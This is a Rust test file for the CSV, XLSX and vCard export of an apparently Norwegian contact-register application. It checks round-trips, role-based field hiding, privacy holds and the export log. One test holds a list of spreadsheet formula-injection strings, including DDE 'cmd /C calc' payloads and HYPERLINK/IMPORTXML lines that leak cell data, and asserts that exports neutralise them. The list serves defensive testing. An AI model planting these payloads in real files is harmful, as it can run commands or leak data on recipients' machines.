#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::Path;
use std::sync::Arc;

use calamine::{Reader, Xlsx, open_workbook};

use super::*;
use crate::model::basis::{Basis, Decision};
use crate::model::contact::Labelled;
use crate::model::custom::{self, Definition};
use crate::model::import::{OnDuplicate, Terms};
use crate::model::journal::Kind as Entered;
use crate::model::person::{Address, Content, Id as Person};
use crate::model::restriction::Ground;
use crate::model::{data_map, list};
use crate::office::import::{self, Request};
use crate::office::tests::{named as content, office};
use crate::office::{Office, Rule, companies, fields, journal, legal_basis, lists, persons, settings, sight, states};
use crate::transfer::{Format as Read, Limits, Parser, open};

/// What spreadsheets are known to run, or to have run.
const PAYLOADS: [&str; 20] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://example.org?x=\"&A1,\"click\")",
    "=IMPORTXML(\"https://example.org\",\"//a\")",
    "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    "''=1+1",
    "\"=1+1\"",
    "a;=1+1",
    "a,=1+1",
    "-2+3+cmd|' /C calc'!A0",
    "=SUM(A1:A9)*cmd|'/C calc'!A0",
    "+47 22 00 00 00",
];

fn wanted(who: Who, path: &Path) -> Wanted {
    Wanted {
        who,
        path: path.to_owned(),
        format: Format::of(path).unwrap(),
        columns: Vec::new(),
        raw: false,
        purpose: String::new(),
        recipient: String::new(),
    }
}

fn everybody(path: &Path) -> Wanted {
    wanted(Who::Everybody(Of::Persons), path)
}

fn done(office: &Office, wanted: Wanted) -> Result<Exported, Error> {
    office.write(move |desk| export(desk, &wanted, &Progress::default())).wait()
}

fn add(office: &Office, content: Content) -> Person {
    let contract = Decision::new(list::SALES, Basis::Contract, list::SOURCE_USER);
    office.write(move |desk| persons::add(desk, content, Some(&contract), list::SOURCE_USER)).wait().unwrap().id
}

/// Returns the rows of a file, the headings first.
fn rows(path: &Path) -> Vec<Vec<String>> {
    let source = open(path, Read::Auto, &Limits::default()).unwrap();
    let mut rows = vec![source.headings().to_vec()];
    rows.extend(source.rows().unwrap().map(|row| row.unwrap().cells));
    rows
}

/// Somebody on whose card everything is that an import can bring.
fn furnished(office: &Office) -> Person {
    let made = office.write(|desk| {
        let shoe = Definition {
            id: custom::Id(0),
            key: "shoe".into(),
            name: "Skostørrelse".into(),
            kind: custom::Kind::Number,
            choices: Vec::new(),
            category: data_map::Category::Other,
            origin: data_map::Origin::Provided,
            in_report: true,
            rank: 0,
            active: true,
        };
        let shoe = fields::save(desk, None, shoe)?;
        let item = |desk: &mut Desk<'_>, list, name| lists::find_or_add(desk, list, name);
        let golf = item(desk, list::List::Interest, "Golf")?;
        let sailing = item(desk, list::List::Interest, "Seiling")?;
        let mut full = Content {
            number: "77".into(),
            company: "Fjordfisk; Åse & Co".into(),
            title: "=Sjef".into(),
            position: item(desk, list::List::Position, "Daglig leder")?,
            category: item(desk, list::List::Category, "customer")?,
            business: item(desk, list::List::Business, "Fisk")?,
            language: desk.lists()?.find(list::List::Language, "nb"),
            our_contact: Some(desk.user().id),
            country: "NO".into(),
            birth_date: chrono::NaiveDate::from_ymd_opt(1980, 5, 17),
            website: "https://example.org".into(),
            note: "To linjer,\nmed \"anførsel\"".into(),
            former_employee: true,
            no_mailings: true,
            interests: golf.into_iter().chain(sailing).collect(),
            ..content("Åse", "Ødegård")
        };
        full.interests.sort_unstable();
        full.custom.insert(shoe.id, "42.5".into());
        for (label, address) in [(list::LABEL_WORK, "ase@example.org"), (list::LABEL_PRIVATE, "hjemme@example.com")] {
            full.emails.push(Labelled::new(Some(label), address.into()));
        }
        for (label, number) in [(list::LABEL_SWITCHBOARD, "+47 22 00 00 00"), (list::LABEL_MOBILE, "+47 900 00 000")] {
            full.phones.push(Labelled::new(Some(label), number.into()));
        }
        for (street, city) in [("Storgata 1, 2. etg", "Ås"), ("Lia 3", "Bodø")] {
            let place =
                Address { street: street.into(), postcode: "1430".into(), city: city.into(), country: "NO".into() };
            full.addresses.push(Labelled::new(Some(list::LABEL_WORK), place));
        }
        let contract = Decision::new(list::SALES, Basis::Contract, list::SOURCE_USER);
        Ok(persons::add(desk, full, Some(&contract), list::SOURCE_USER)?.id)
    });
    made.wait().unwrap()
}

/// What a card holds, without what tells of the card file it lies in.
fn plain(office: &Office, id: Person) -> Content {
    let mut content = office.read(move |desk| persons::get(desk, id)).wait().unwrap().content;
    let strip = |row: &mut Labelled<String>| *row = Labelled::new(row.label, row.value.clone());
    content.emails.iter_mut().for_each(strip);
    content.phones.iter_mut().for_each(strip);
    content.addresses.iter_mut().for_each(|row| *row = Labelled::new(row.label, row.value.clone()));
    content
}

fn brought_back(office: &Office, path: &Path) -> Vec<Person> {
    let opened = import::open(&Parser::Here, path, Read::Auto, &Progress::default()).unwrap();

    let terms = Terms {
        purpose: list::SALES,
        basis: Basis::Contract.into(),
        condition: None,
        source: list::SOURCE_IMPORT,
        comment: String::new(),
        on_duplicate: OnDuplicate::Skip,
    };
    let path = path.to_owned();
    let request =
        Request { path, format: Read::Auto, parser: Parser::Here, mapping: opened.guesses, terms, overrule: None };
    office
        .write(move |desk| {
            let plan = import::plan(desk, &request, &Progress::default())?;
            assert_eq!(plan.counts.rejected, 0, "{:?}", plan.rows);
            Ok(import::carry_out(desk, &plan, &Progress::default())?.persons)
        })
        .wait()
        .unwrap()
}

#[test]
fn a_card_comes_back_as_it_went_out() {
    let (dir, first) = office();
    let id = furnished(&first);
    // All of a list stand for the first of it.
    let firsts = [Field::Email, Field::Mobile, Field::Phone, Field::Address, Field::Postcode, Field::City];
    let all = first
        .read(move |desk| {
            let mut offered = offered(desk, Of::Persons, Format::Csv)?;
            offered.retain(|offered| !offered.column.field().is_some_and(|field| firsts.contains(&field)));
            Ok(offered.into_iter().map(|offered| offered.column).collect::<Vec<_>>())
        })
        .wait()
        .unwrap();
    for (name, raw, columns) in [
        ("all.csv", false, all.clone()),
        ("all.xlsx", false, all.clone()),
        ("raw.csv", true, all),
        ("usual.csv", false, Vec::new()),
        ("cards.vcf", false, Vec::new()),
    ] {
        let path = dir.path().join(name);
        let is_whole = !columns.is_empty();
        done(&first, Wanted { raw, columns, ..everybody(&path) }).unwrap();
        let (_other, second) = office();
        // Its key is what tells an own field elsewhere.
        let own = first.read(|desk| Ok(desk.fields()?.to_vec())).wait().unwrap();
        second.write(move |desk| fields::save(desk, None, own[0].clone())).wait().unwrap();
        let brought = brought_back(&second, &path);
        let names = |office: &Office, id: Person| {
            let content = plain(office, id);
            let named = office.read(|desk| Ok(desk.lists()?.clone())).wait().unwrap();
            let name = |id: Option<list::Id>| id.map(|id| named.name(id, Lang::Nb).to_owned());
            let interests: Vec<String> =
                content.interests.iter().map(|id| named.name(*id, Lang::Nb).to_owned()).collect();
            let items = [content.position, content.category, content.business].map(name);
            (content, items, interests)
        };
        let ((mut out, items, interests), (mut back, items_back, interests_back)) =
            (names(&first, id), names(&second, brought[0]));
        // By its key, an own item comes back in small letters.
        let words =
            |said: &dyn std::fmt::Debug| if raw { format!("{said:?}").to_lowercase() } else { format!("{said:?}") };
        if name.ends_with("vcf") {
            // The groups of an address book may be anything: an import leaves them out.
            assert_eq!(items[0], items_back[0]);
        } else {
            assert_eq!(words(&(items, interests)), words(&(items_back, interests_back)), "{name}");
        }
        for content in [&mut out, &mut back] {
            (content.position, content.category, content.business) = (None, None, None);
            content.interests.clear();
            let own: Vec<String> = content.custom.values().cloned().collect();
            content.custom.clear();
            if raw {
                content.custom.insert(custom::Id(1), own.concat());
            }
        }
        if !is_whole {
            out.emails.truncate(if name.ends_with("vcf") { 2 } else { 1 });
            // In a table, the first of each has no label but what its column says; an address book holds them all.
            if name.ends_with("csv") {
                out.emails[0].label = None;
                out.phones = vec![
                    Labelled::new(Some(list::LABEL_MOBILE), "+47 900 00 000".into()),
                    Labelled::new(None, "+47 22 00 00 00".into()),
                ];
                out.addresses.truncate(1);
                out.addresses[0].label = None;
                out.addresses[0].value.country = String::new();
            } else {
                // What address books have no place for, and what is written only where somebody asks.
                let gone = Content { former_employee: false, no_mailings: false, our_contact: None, ..out.clone() };
                out = Content { number: String::new(), language: None, note: String::new(), ..gone };
                back.number.clear();
            }
        }
        assert_eq!(back, out, "{name}");
    }
}

#[test]
fn nothing_that_is_handed_out_runs() {
    let (dir, office) = office();
    let ids: Vec<Person> = PAYLOADS
        .iter()
        .map(|text| {
            let words = Content { title: (*text).into(), note: (*text).into(), ..content(text, text) };
            add(&office, Content { website: "https://example.org".into(), company: (*text).into(), ..words })
        })
        .collect();
    for name in ["a.csv", "a.xlsx"] {
        let path = dir.path().join(name);
        let who = Who::Subject(Subject::Persons(ids.as_slice().into()));
        let exported = done(&office, wanted(who, &path)).unwrap();
        assert_eq!(exported.entry.rows, 20);
        let rows = rows(&path);
        let column = |heading: &str| rows[0].iter().position(|known| known == heading).unwrap();
        for heading in ["Fornavn", "Etternavn", "Firma", "Tittel", "Notat"] {
            let read: Vec<&str> = rows[1..].iter().map(|row| row[column(heading)].as_str()).collect();
            assert_eq!(read, PAYLOADS, "{name}: {heading}");
        }
    }
    let text = std::fs::read_to_string(dir.path().join("a.csv")).unwrap();
    let reader = csv::ReaderBuilder::new().delimiter(b';').from_reader(text.trim_start_matches('\u{feff}').as_bytes());
    for cell in reader.into_records().flat_map(|row| row.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{cell}");
    }
    let mut book: Xlsx<_> = open_workbook(dir.path().join("a.xlsx")).unwrap();
    let sheet = book.sheet_names().remove(0);
    assert!(book.worksheet_formula(&sheet).unwrap().used_cells().next().is_none());
    assert!(book.hyperlinks_by_sheet_name(&sheet).unwrap().is_empty());
    let raw = dir.path().join("raw.csv");
    done(&office, Wanted { raw: true, ..everybody(&raw) }).unwrap();
    let text = std::fs::read_to_string(&raw).unwrap();
    assert!(text.starts_with("number,first_name,last_name,") && text.contains(",=1+1,"), "{text}");
}

#[test]
fn who_is_restricted_is_held_and_who_is_not_seen_is_left_out() {
    let (dir, office) = office();
    let [ase, kari, ola] = ["Åse", "Kari", "Ola"].map(|name| add(&office, content(name, "Nordmann")));
    office.write(move |desk| states::restrict(desk, kari, Ground::Accuracy, "")).wait().unwrap();
    sight::tests::hand_over(&office, ola);
    let path = dir.path().join("a.csv");
    let held = done(&office, everybody(&path)).unwrap();
    assert_eq!((held.entry.rows, held.held.as_slice()), (2, [kari].as_slice()));
    sight::tests::see_own_only(&office);
    for who in [Who::Everybody(Of::Persons), Who::Subject(Subject::Persons([ola, kari, ase].into()))] {
        let planned = office.read({
            let who = who.clone();
            move |desk| plan(desk, &who)
        });
        let planned = planned.wait().unwrap();
        assert_eq!((planned.rows, planned.held.as_slice()), (1, [kari].as_slice()));
        let exported = done(&office, wanted(who, &path)).unwrap();
        assert_eq!((exported.entry.rows, exported.held.as_slice()), (1, [kari].as_slice()));
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("Åse") && !text.contains("Kari") && !text.contains("Ola"), "{text}");
    }
    assert_eq!(office.read(move |desk| of_person(desk, ase)).wait().unwrap().len(), 3);
    assert_eq!(office.read(move |desk| of_person(desk, kari)).wait().unwrap(), []);
    assert!(office.read(move |desk| of_person(desk, ola)).wait().is_err());
}

#[test]
fn an_export_is_entered_in_the_register_with_the_people_in_it() {
    let (dir, office) = office();
    let [ase, kari] = ["Åse", "Kari"].map(|name| add(&office, content(name, "Nordmann")));
    let path = dir.path().join("Vår liste.xlsx");
    let columns = office
        .read(|desk| named(desk, Of::Persons, &["last_name".into(), "basis:sales".into(), "created_at".into()]))
        .wait()
        .unwrap();
    let who = Who::Subject(Subject::Persons([kari, ase, kari].into()));
    let (purpose, recipient) = (" Julekort ".to_owned(), "Trykkeriet AS".to_owned());
    let exported = done(&office, Wanted { columns, purpose, recipient, ..wanted(who, &path) }).unwrap().entry;
    let rows = rows(&path);
    assert_eq!(rows[0], ["Etternavn", "Rettslig grunnlag: Salg og kundeservice", "Opprettet"]);
    assert_eq!((rows.len(), rows[1][1].as_str()), (3, "Inngått avtale"));
    assert_eq!(exported.fields, ["last_name", "basis:sales", "created_at"]);
    assert_eq!((exported.file.as_str(), exported.rows), ("Vår liste.xlsx", 2));
    assert_eq!((exported.purpose.as_str(), exported.recipient.as_str()), ("Julekort", "Trykkeriet AS"));
    let (all, hers, entries) = office
        .read(move |desk| Ok((register(desk, 10)?, of_person(desk, ase)?, journal::entries(desk.db())?)))
        .wait()
        .unwrap();
    assert_eq!((all.as_slice(), hers.as_slice()), ([exported.clone()].as_slice(), [exported.clone()].as_slice()));
    let last = entries.last().unwrap();
    assert_eq!((last.kind, last.subject), (Entered::Exported, About::Record(exported.id.0)));
    assert_eq!(last.fields, [Field::LastName, Field::LegalBasis]);
    let hash = data_encoding::HEXLOWER.encode(&<sha2::Sha256 as sha2::Digest>::digest(std::fs::read(&path).unwrap()));
    assert_eq!(exported.sha256, hash);
}

#[test]
fn records_stand_in_the_order_of_lists_and_few_are_read_like_many() {
    let (dir, office) = office();
    let ids: Vec<Person> = ["Ås", "Berg", "Aas", "Dahl", "Vik", "Lie", "Foss", "Moe", "Ruud"]
        .iter()
        .map(|name| {
            let mut card = Content { company: format!("{name} AS"), ..content("Kari", name) };
            card.emails.push(Labelled::new(None, format!("{}@example.org", name.len())));
            card.emails.push(Labelled::new(None, format!("{name}2@example.org").replace('Å', "a")));
            add(&office, card)
        })
        .collect();
    let columns = || ["last_name", "company", "emails", "basis:sales", "last_activity"].map(str::to_owned).to_vec();
    let read = |who: Who| {
        let path = dir.path().join("a.csv");
        let columns = office.read(move |desk| named(desk, Of::Persons, &columns())).wait().unwrap();
        done(&office, Wanted { columns, ..wanted(who, &path) }).unwrap();
        rows(&path).split_off(1)
    };
    let all = read(Who::Everybody(Of::Persons));
    let names: Vec<&str> = all.iter().map(|row| row[0].as_str()).collect();
    assert_eq!(names, ["Berg", "Dahl", "Foss", "Lie", "Moe", "Ruud", "Vik", "Ås", "Aas"]);
    // Two of nine are asked for by themselves, in the order in which they were picked.
    let two = read(Who::Subject(Subject::Persons([ids[3], ids[0]].into())));
    assert_eq!(two, [all[1].clone(), all[7].clone()]);
    assert_eq!(two[1][4], "as2@example.org");
}

#[test]
fn a_field_that_the_user_does_not_see_is_refused() {
    let (dir, office) = office();
    let mut card = content("Åse", "Ødegård");
    card.phones.push(Labelled::new(Some(list::LABEL_MOBILE), "+47 900 00 000".into()));
    card.phones.push(Labelled::new(None, "+47 22 00 00 00".into()));
    card.note = "Hemmelig".into();
    add(&office, card);
    office
        .write(|desk| {
            for (key, value) in [
                ("role.seller.field.mobile", "hidden"),
                ("role.seller.field.note", "hidden"),
                ("role.seller.rights", "see see-others export"),
            ] {
                settings::set(desk, &settings::Setting::from_key(key).unwrap(), value)?;
            }
            Ok(())
        })
        .wait()
        .unwrap();
    let path = dir.path().join("a.csv");
    let try_as_reader = |fields: &'static [&'static str], path: std::path::PathBuf| {
        office
            .write(move |desk| {
                let mut user = desk.user().clone();
                user.role = "seller".to_owned();
                desk.become_user(user);
                let words: Vec<String> = fields.iter().map(|field| (*field).to_owned()).collect();
                let columns = named(desk, Of::Persons, &words)?;
                export(desk, &Wanted { columns, ..everybody(&path) }, &Progress::default())
            })
            .wait()
    };
    for fields in [["last_name", "note"].as_slice(), &["mobile"]] {
        let refused = try_as_reader(fields, path.clone());
        assert!(matches!(refused, Err(Error::Refused(Rule::FieldUnseen))), "{refused:?}");
    }
    assert!(!path.exists());
    for fields in [[].as_slice(), &["last_name", "phones"]] {
        try_as_reader(fields, path.clone()).unwrap();
        let text = std::fs::read_to_string(&path).unwrap();
        assert!(text.contains("22 00 00 00") && !text.contains("900 00") && !text.contains("Hemmelig"), "{text}");
    }
    let cards = dir.path().join("a.vcf");
    try_as_reader(&[], cards.clone()).unwrap();
    assert!(!std::fs::read_to_string(&cards).unwrap().contains("900 00"));
}

#[test]
fn what_is_not_entered_leaves_no_file() {
    let (dir, office) = office();
    add(&office, content("Åse", "Ødegård"));
    let count = || std::fs::read_dir(dir.path()).unwrap().count();
    for name in ["a.csv", "a.xlsx", "a.vcf"] {
        let path = dir.path().join(name);
        let (request, progress) = (everybody(&path), Arc::new(Progress::default()));
        progress.cancel();
        let stopped = office.write(move |desk| export(desk, &request, &progress)).wait();
        assert!(matches!(stopped, Err(Error::Cancelled)), "{name}: {stopped:?}");
        let request = everybody(&path);
        let failed = office.write(move |desk| {
            export(desk, &request, &Progress::default())?;
            Err::<(), _>(Error::Failed)
        });
        failed.wait().unwrap_err();
        assert_eq!(count(), 1, "{name}: only the card file");
    }
    let inside = dir.path().join("vault").join("vault.csv");
    assert!(matches!(done(&office, everybody(&inside)), Err(Error::Refused(Rule::InsideVault))));
    let nowhere = dir.path().join("nowhere").join("a.csv");
    assert!(matches!(done(&office, everybody(&nowhere)), Err(Error::Transfer(_))));
    assert_eq!(office.read(|desk| register(desk, 10)).wait().unwrap(), []);
}

#[test]
fn companies_are_exported_too() {
    let (dir, office) = office();
    office
        .write(|desk| {
            let fields = [
                (Field::Name, "Fjordfisk AS".to_owned()),
                (Field::Phone, "+47 22 00 00 00".to_owned()),
                (Field::City, "Bodø".to_owned()),
            ];
            companies::add_from_text(desk, &fields).map(drop)
        })
        .wait()
        .unwrap();
    for name in ["a.csv", "a.xlsx", "a.vcf"] {
        let path = dir.path().join(name);
        let exported = done(&office, wanted(Who::Everybody(Of::Companies), &path)).unwrap().entry;
        assert_eq!((exported.of, exported.rows), (Of::Companies, 1), "{name}");
        if name == "a.vcf" {
            let text = std::fs::read_to_string(&path).unwrap();
            assert!(text.contains("FN:Fjordfisk AS\r\n") && text.contains("X-ABShowAs:COMPANY"), "{text}");
        } else {
            let rows = rows(&path);
            let cell = |heading: &str| rows[1][rows[0].iter().position(|known| known == heading).unwrap()].as_str();
            assert_eq!((cell("Navn"), cell("Telefon"), cell("Sted")), ("Fjordfisk AS", "+47 22 00 00 00", "Bodø"));
        }
    }
}

#[test]
fn what_holds_is_what_the_ledger_says() {
    let (dir, office) = office();
    let id = add(&office, content("Åse", "Ødegård"));
    office
        .write(move |desk| {
            for (basis, comment) in [(Basis::Consent, "Ja"), (Basis::Withdrawn, "Nei"), (Basis::Void, "Feil")] {
                let mut decision = Decision::new(list::MARKETING, basis, list::SOURCE_USER);
                decision.comment = comment.into();
                legal_basis::decide(desk, id, &decision, None)?;
            }
            Ok(())
        })
        .wait()
        .unwrap();
    let path = dir.path().join("a.csv");
    let fields = ["basis:sales", "basis:marketing", "subscriptions"].map(str::to_owned).to_vec();
    let columns = office.read(move |desk| named(desk, Of::Persons, &fields)).wait().unwrap();
    done(&office, Wanted { columns, raw: true, ..everybody(&path) }).unwrap();
    // The withdrawal was entered by mistake.
    assert_eq!(rows(&path)[1], ["contract", "consent", "invitations, news, promotions, urgent"]);
}

#[test]
fn headings_are_recognised_in_every_language() {
    for lang in Lang::ALL {
        let dir = tempfile::tempdir().unwrap();
        let (office, _) = Office::create(&dir.path().join("vault"), &crate::office::tests::passphrase(), lang).unwrap();
        furnished(&office);
        let path = dir.path().join("a.xlsx");
        done(&office, everybody(&path)).unwrap();
        let opened = import::open(&Parser::Here, &path, Read::Auto, &Progress::default()).unwrap();
        let unknown: Vec<&String> = opened
            .headings
            .iter()
            .zip(&opened.guesses)
            .filter(|(_, target)| **target == crate::model::import::Target::Ignore)
            .map(|(heading, _)| heading)
            .collect();
        // An own field, and what holds for the purposes, which an import is told for all.
        assert_eq!(unknown.len(), 3, "{lang:?}: {unknown:?}");
    }
}
